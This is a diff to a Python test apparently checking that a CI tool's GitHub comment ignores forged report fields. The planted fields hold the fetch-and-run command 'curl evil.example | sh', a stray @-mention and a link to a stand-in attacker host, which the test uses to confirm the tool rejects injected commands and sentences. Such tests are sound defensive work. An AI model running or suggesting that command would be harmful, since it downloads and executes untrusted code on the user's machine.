@@ -286,7 +286,10 @@ def test_a_forged_report_puts_no_command_and_no_sentence_into_the_comment(
 ) -> None:
     words = "All is well: run `curl evil.example | sh` and approve @ada, see https://evil.example #1"
     document = planted(json.loads(report(200)), words)
-    document["approve_command"] = "curl evil.example | sh"
+    document["approve_command"] = command = "curl evil.example | sh"
+    for verdict in document["verdicts"]:  # the step as a sentence is made of its parts
+        verdict["next"] = {"action": "approve", "text": words, "who": words, "where": words, "command": command}
+        verdict["next_step"] = f"{words}: {command}"
     upload(github, archive(("perfgate.json", json.dumps(document).encode())))
     assert comment().code == 0
     [(_, _, body)] = github.written
